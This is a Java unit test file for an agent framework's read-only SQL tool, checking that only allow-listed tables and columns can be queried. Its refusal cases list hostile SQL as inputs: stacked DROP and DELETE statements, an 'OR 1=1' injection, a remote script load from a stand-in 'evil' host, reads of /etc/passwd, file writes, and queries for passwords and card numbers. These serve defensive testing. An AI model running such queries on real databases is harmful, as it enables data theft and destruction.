package dev.llmmesh.agents.tool;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.lang.reflect.Proxy;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SqlToolTest {
    private static EmbeddedH2 db;
    private static SqlTool tool;

    @BeforeAll
    static void database() {
        db = EmbeddedH2.create("orders", """
                CREATE TABLE orders(id INT PRIMARY KEY, customer VARCHAR(40), status VARCHAR(20), total DECIMAL(10,2),
                                    card_number VARCHAR(20));
                CREATE TABLE users(id INT PRIMARY KEY, name VARCHAR(40), password VARCHAR(40));
                INSERT INTO orders VALUES (1001, 'ada', 'shipped', 20.00, '4111111111111111'),
                                          (1002, 'ada', 'charged_twice', 49.99, '4111111111111111'),
                                          (1003, 'bob', 'pending', 5.50, '5500000000000004');
                INSERT INTO users VALUES (1, 'ada', 'hunter2');
                """, "orders");
        tool = SqlTool.builder(db).allowTable("orders", "id", "customer", "status", "total").maxRows(2).build();
    }

    @AfterAll
    static void close() {
        db.close();
    }

    private static ToolResult run(String sql) {
        return tool.execute(new ToolCall("r1", "billing", "c1", "sql_query",
                "{\"sql\": " + dev.llmmesh.agents.internal.Json.quote(sql) + "}"));
    }

    @Test
    void selectsAllowListedColumnsAndRendersRows() {
        ToolResult r = run("SELECT id, status, total FROM orders WHERE id = 1002");
        assertThat(r.error()).isFalse();
        assertThat(r.text()).isEqualTo("id | status | total\n1002 | charged_twice | 49.99\n(1 row)");
    }

    @Test
    void acceptsJoinsAggregatesAliasesAndSubqueriesWithinTheAllowList() {
        assertThat(run("select customer, count(*) as n, sum(total) as spent from orders o where o.status <> 'x' "
                + "group by customer having count(*) > 0 order by spent desc;").text())
                .startsWith("customer | n | spent\nada | 2 | 69.99");
        assertThat(run("SELECT id FROM orders WHERE id IN (SELECT id FROM orders WHERE customer = 'bob')").text())
                .contains("1003");
        assertThat(run("SELECT CASE WHEN total > 10 THEN 'big' ELSE 'small' END AS size, CAST(total AS INT) AS t "
                + "FROM orders WHERE id = 1003").text()).contains("small | 6");
        assertThat(run("SELECT id FROM orders WHERE customer = 'it''s -- not a comment; DROP TABLE orders'").text())
                .endsWith("(0 rows)");
    }

    @Test
    void capsTheRowsAtTheLimitAndSaysSo() {
        ToolResult r = run("SELECT id FROM orders ORDER BY id");
        assertThat(r.text()).isEqualTo("id\n1001\n1002\n(2 rows, truncated at the row limit)");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "DELETE FROM orders",
            "UPDATE orders SET status = 'refunded'",
            "INSERT INTO orders VALUES (9, 'eve', 'x', 1, '0')",
            "DROP TABLE orders",
            "TRUNCATE TABLE orders",
            "CREATE TABLE t(x INT)",
            "ALTER TABLE orders ADD COLUMN x INT",
            "MERGE INTO orders KEY(id) VALUES (1, 'x', 'y', 1, '0')",
            "SELECT id FROM orders; DROP TABLE orders",
            "SELECT id FROM orders;DELETE FROM orders;",
            "select id from orders;\n delete from orders",
            "SELECT id FROM orders WHERE id = 1 OR 1=1; --",
            "SELECT id FROM orders -- trailing comment",
            "SELECT id FROM orders /* hidden */ WHERE id = 1",
            "SELECT id FROM orders # mysql comment",
            "SELECT id INTO backup FROM orders",
            "SELECT id FROM orders FOR UPDATE",
            "WITH x AS (SELECT id FROM orders) SELECT id FROM x",
            "CALL SHUTDOWN",
            "SHUTDOWN",
            "SET AUTOCOMMIT TRUE",
            "RUNSCRIPT FROM 'http://evil/x.sql'",
            "SELECT FILE_READ('/etc/passwd')",
            "SELECT CSVWRITE('/tmp/x.csv', 'SELECT * FROM orders')",
            "SELECT LINK_SCHEMA('x', '', 'jdbc:h2:mem:x', 'sa', '', 'PUBLIC')",
            "EXPLAIN ANALYZE DELETE FROM orders",
            "VALUES (1)",
            "TABLE orders",
            "SELECT id FROM orders\u037e DROP TABLE orders",
            "SELECT $$x$$ FROM orders",
            "SELECT id FROM orders WHERE status = E'\\x27'",
            "SELECT id FROM orders WHERE id = 0x3f",
            "SELECT id FROM orders WHERE status = ?",
            "SELECT id FROM \"ORDERS\"",
            "SELECT id FROM `orders`",
            "SELECT id FROM orders WHERE status = 'unterminated",
            "SELECT (id FROM orders",
            "SELECT NEXT VALUE FOR seq"
    })
    void refusesWritesDdlMultipleStatementsAndInjectionTricks(String sql) {
        ToolResult r = run(sql);
        assertThat(r.error()).as(sql).isTrue();
        assertThat(r.text()).as(sql).startsWith("refused: ");
        assertThatThrownBy(() -> tool.check(sql)).isInstanceOf(IllegalArgumentException.class);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "SELECT name, password FROM users",
            "SELECT id FROM orders UNION SELECT id FROM users",
            "SELECT card_number FROM orders",
            "SELECT id, card_number AS status FROM orders",
            "SELECT id FROM orders WHERE card_number LIKE '4111%'",
            "SELECT o.card_number FROM orders o",
            "SELECT * FROM orders",
            "SELECT o.* FROM orders o",
            "SELECT id FROM orders WHERE id IN (SELECT id FROM users)",
            "SELECT id FROM information_schema.tables",
            "SELECT id FROM public.orders",
            "SELECT x.id FROM orders o",
            "SELECT id FROM (SELECT id FROM orders) t",
            "SELECT id AS secret FROM orders WHERE secret = 'x'",
            "SELECT id FROM orders ORDER BY desc"
    })
    void refusesTablesAndColumnsOutsideTheAllowList(String sql) {
        assertThat(run(sql).text()).as(sql).startsWith("refused: ");
    }

    @Test
    void leavesTheDatabaseUnchangedAfterEveryRefusal() throws SQLException {
        run("DELETE FROM orders");
        run("SELECT id FROM orders; DELETE FROM orders");
        run("UPDATE orders SET total = 0");
        try (Connection c = db.open(); Statement st = c.createStatement();
             ResultSet rs = st.executeQuery("SELECT COUNT(*), SUM(total) FROM orders")) {
            rs.next();
            assertThat(rs.getInt(1)).isEqualTo(3);
            assertThat(rs.getBigDecimal(2)).isEqualByComparingTo("75.49");
        }
    }

    @Test
    void theReaderConnectionCannotWriteEvenWithoutTheParser() throws SQLException {
        try (Connection c = db.open(); Statement st = c.createStatement()) {
            assertThatThrownBy(() -> st.executeUpdate("DELETE FROM orders")).isInstanceOf(SQLException.class)
                    .hasMessageContaining("Not enough rights");
            assertThatThrownBy(() -> st.executeQuery("SELECT name FROM users")).isInstanceOf(SQLException.class);
            assertThatThrownBy(() -> st.executeQuery("SELECT FILE_READ('/etc/hostname')"))
                    .isInstanceOf(SQLException.class);
        }
    }

    @Test
    void runsEachQueryReadOnlyWithTheTimeoutAndRowLimitAndRollsBack() {
        List<String> seen = new ArrayList<>();
        ConnectionSource spying = () -> spy(db.open(), seen);
        SqlTool t = SqlTool.builder(spying).allowTable("orders", "id").maxRows(5)
                .timeout(java.time.Duration.ofMillis(1500)).build();
        ToolResult r = t.execute(new ToolCall("r", "a", "c", "sql_query", "{\"sql\":\"SELECT id FROM orders\"}"));
        assertThat(r.error()).isFalse();
        assertThat(seen).contains("setReadOnly[true]", "setAutoCommit[false]", "setQueryTimeout[2]", "setMaxRows[6]",
                "rollback", "close");
        assertThat(seen.indexOf("rollback")).isLessThan(seen.lastIndexOf("close"));
    }

    @Test
    void reportsBadArgumentsAndDatabaseErrorsAsToolErrors() {
        assertThat(tool.execute(new ToolCall("r", "a", "c", "sql_query", "{\"query\":\"SELECT 1\"}")).text())
                .startsWith("invalid arguments");
        assertThat(tool.execute(new ToolCall("r", "a", "c", "sql_query", "not json")).text())
                .startsWith("refused: not valid JSON");
        SqlTool broken = SqlTool.builder(() -> {
            throw new SQLException("connection refused by test");
        }).allowTable("orders", "id").build();
        ToolResult r = broken.execute(new ToolCall("r", "a", "c", "sql_query", "{\"sql\":\"SELECT id FROM orders\"}"));
        assertThat(r.error()).isTrue();
        assertThat(r.text()).isEqualTo("query failed: connection refused by test");
    }

    @Test
    void builderRejectsReservedOrQuotedNamesAndEmptyAllowLists() {
        assertThatThrownBy(() -> SqlTool.builder(db).allowTable("orders", "select"))
                .hasMessageContaining("reserved SQL word");
        assertThatThrownBy(() -> SqlTool.builder(db).allowTable("orders", "\"id\"")).hasMessageContaining("plain identifier");
        assertThatThrownBy(() -> SqlTool.builder(db).allowTable("orders")).hasMessageContaining("list the columns");
        assertThatThrownBy(() -> SqlTool.builder(db).build()).hasMessageContaining("allowTable");
        assertThatThrownBy(() -> SqlTool.builder(db).maxRows(0)).hasMessageContaining("maxRows");
    }

    @Test
    void describesItsTablesAndColumnsToTheModel() {
        assertThat(tool.specification().description())
                .contains("orders(id, customer, status, total)").contains("at most 2 rows");
        assertThat(tool.descriptor().kind()).isEqualTo(ToolKind.SQL);
        assertThat(tool.descriptor().readOnly()).isTrue();
    }

    private static Connection spy(Connection real, List<String> seen) {
        return (Connection) Proxy.newProxyInstance(SqlToolTest.class.getClassLoader(), new Class<?>[] {Connection.class},
                (p, m, args) -> {
                    record(seen, m.getName(), args);
                    Object result = m.invoke(real, args);
                    if (result instanceof Statement s && m.getName().equals("createStatement")) {
                        return Proxy.newProxyInstance(SqlToolTest.class.getClassLoader(), new Class<?>[] {Statement.class},
                                (p2, m2, a2) -> {
                                    record(seen, m2.getName(), a2);
                                    return m2.invoke(s, a2);
                                });
                    }
                    return result;
                });
    }

    private static void record(List<String> seen, String name, Object[] args) {
        if (Set.of("setReadOnly", "setAutoCommit", "setQueryTimeout", "setMaxRows").contains(name)) {
            seen.add(name + java.util.Arrays.toString(args));
        } else if (name.equals("rollback") || name.equals("close")) {
            seen.add(name);
        }
    }

    private static final class Set {
        static java.util.Set<String> of(String... s) {
            return java.util.Set.of(s);
        }
    }
}
